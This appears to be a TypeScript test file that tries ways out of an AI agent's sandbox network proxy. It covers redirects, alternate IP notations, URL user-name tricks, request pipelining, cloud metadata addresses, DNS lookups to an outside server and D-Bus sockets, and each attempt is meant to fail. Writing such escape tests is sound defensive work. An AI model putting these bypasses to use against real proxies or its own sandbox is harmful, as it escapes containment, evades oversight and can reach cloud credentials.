import dns from 'node:dns';
import { once } from 'node:events';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import { text } from 'node:stream/consumers';
import type { EscapeAttempt } from './escape-target.ts';

/** Shows that the proxy is there: without it, all attempts would fail. */
export const listedAttempts: Readonly<Record<string, EscapeAttempt>> = {
  'a listed server is reached through the proxy': async ({ listedPort }) =>
    (await get(`http://127.0.0.1:${listedPort}/`)).body === 'listed' &&
    (await tunnel(`127.0.0.1:${listedPort}`)).body.endsWith('listed'),
};

/** Ways to other servers than the listed ones. Without a sandbox, they are tried without a proxy. */
export const proxyAttempts: Readonly<Record<string, EscapeAttempt>> = {
  'a redirect of a listed server leads to another one': async ({ listedPort }) => {
    const { location } = await get(`http://127.0.0.1:${listedPort}/redirect`);
    if (location === undefined) throw new Error('no redirect');
    return wasTried(await get(location));
  },
  'another port of a listed host is reached by a tunnel': async ({ otherPort }) =>
    wasTried(await tunnel(`127.0.0.1:${otherPort}`)),
  'another port of a listed host is reached by plain HTTP': async ({ otherPort }) =>
    wasTried(await get(`http://127.0.0.1:${otherPort}/`)),
  'a private address is reached as an IPv4-mapped one': async ({ otherPort }) =>
    wasTried(
      await tunnel(`[::ffff:127.0.0.1]:${otherPort}`),
      await tunnel(`[::ffff:7f00:1]:${otherPort}`),
      await get(`http://[::ffff:127.0.0.1]:${otherPort}/`),
    ),
  'a private address is reached in other notations': async ({ otherPort }) =>
    wasTried(
      await tunnel(`2130706433:${otherPort}`),
      await tunnel(`0x7f000001:${otherPort}`),
      await tunnel(`127.1:${otherPort}`),
    ),
  'a listed host as the user name of a URL leads to another one': async ({ listedPort, otherPort }) =>
    wasTried(await get(`http://127.0.0.1:${listedPort}@127.0.0.1:${otherPort}/`)),
  'the second request on a connection reaches another server': async ({ listedPort, otherPort }) => {
    const socket = net.connect(proxyAddress());
    const request = (port: number): string =>
      `GET http://127.0.0.1:${port}/ HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n\r\n`;
    socket.write(request(listedPort) + request(otherPort));
    const answers = [...(await text(socket)).matchAll(/HTTP\/1\.1 (\d+)/gu)];
    const [first, ...others] = answers.map(([, status]) => ({ status: Number(status), body: '' }));
    if (first?.status !== 200) throw new Error('the listed server was not reached');
    return wasTried(...others);
  },
  'the metadata service of a cloud is reached by its address': async () => {
    proxyAddress();
    return wasTried(
      await tunnel('169.254.169.254:80'),
      await get('http://169.254.169.254/latest/meta-data/'),
      await tunnel('[::ffff:169.254.169.254]:80'),
      await tunnel('[fd00:ec2::254]:80'),
      await tunnel('2852039166:80'),
    );
  },
  'the metadata service of a cloud is reached by a listed name': async () => {
    proxyAddress();
    return wasTried(await get('http://metadata.example/'), await tunnel('metadata.example:443'));
  },
  'a private address is reached by a listed name': async ({ otherPort }) => {
    proxyAddress();
    return wasTried(
      await tunnel(`private.example:${otherPort}`),
      await tunnel(`mapped.example:${otherPort}`),
      await get(`http://private.example:${otherPort}/`),
    );
  },
  'a name that is not listed is looked up': async () => {
    proxyAddress();
    return wasTried(await tunnel('what-an-agent-read.unlisted.example:443'));
  },
};

/** Ways past the proxy. */
export const otherWays: Readonly<Record<string, EscapeAttempt>> = {
  'a DNS server outside is asked': async ({ dnsPort }) => {
    const resolver = new dns.promises.Resolver({ timeout: 30_000, tries: 1 });
    resolver.setServers([`127.0.0.1:${dnsPort}`]);
    return (await resolver.resolve4('what-an-agent-read.example')).includes('192.0.2.1');
  },
  'the session bus of D-Bus is reached by its path': ({ home }) => reaches(path.join(home, 'bus')),
  'the session bus of D-Bus is reached as the environment says': () =>
    reaches(/unix:path=(.*)/u.exec(process.env['DBUS_SESSION_BUS_ADDRESS'] ?? '')?.[1] ?? ''),
  'the system bus of D-Bus is reached': () => reaches('/run/dbus/system_bus_socket'),
};

interface Answer {
  readonly status: number;
  readonly body: string;
  readonly location?: string | undefined;
}

/** Whether a server was reached, or the proxy tried to reach it. */
function wasTried(...answers: readonly Answer[]): boolean {
  return answers.some(({ status }) => status !== 400 && status !== 403);
}

/** The proxy that the variables of a sandbox name. @throws Error if there is none: for ways that lead through a proxy only. */
function proxyAddress(): { readonly host: string; readonly port: number } {
  const { hostname, port } = new URL(process.env['HTTP_PROXY'] ?? '');
  return { host: hostname, port: Number(port) };
}

function isProxied(): boolean {
  return (process.env['HTTP_PROXY'] ?? '') !== '';
}

async function get(url: string): Promise<Answer> {
  const request = isProxied()
    ? http.get({ ...proxyAddress(), path: url, headers: { host: new URL(url).host }, agent: false })
    : http.get(url, { agent: false });
  const response = await new Promise<http.IncomingMessage>((resolve, reject) => {
    request.once('response', resolve).once('error', reject);
  });
  const { statusCode: status = 0, headers } = response;
  return { status, body: await text(response), location: headers.location };
}

async function tunnel(authority: string): Promise<Answer> {
  const [socket, status] = await connected(authority);
  if (status !== 200) {
    socket.destroy();
    return { status, body: '' };
  }
  socket.write('GET / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n');
  return { status, body: await text(socket) };
}

async function connected(authority: string): Promise<readonly [net.Socket, number]> {
  if (!isProxied()) {
    const [, host = '', port] = /^\[?(.*?)\]?:(\d+)$/u.exec(authority) ?? [];
    const socket = net.connect({ host, port: Number(port) });
    await once(socket, 'connect');
    return [socket, 200];
  }
  const request = http.request({ ...proxyAddress(), method: 'CONNECT', path: authority, agent: false }).end();
  return await new Promise((resolve, reject) => {
    request
      .once('connect', ({ statusCode = 0 }, socket) => {
        if (socket instanceof net.Socket) resolve([socket, statusCode]);
      })
      .once('error', reject);
  });
}

async function reaches(socketPath: string): Promise<boolean> {
  const socket = net.connect({ path: socketPath });
  try {
    await once(socket, 'connect');
    return true;
  } finally {
    socket.destroy();
  }
}
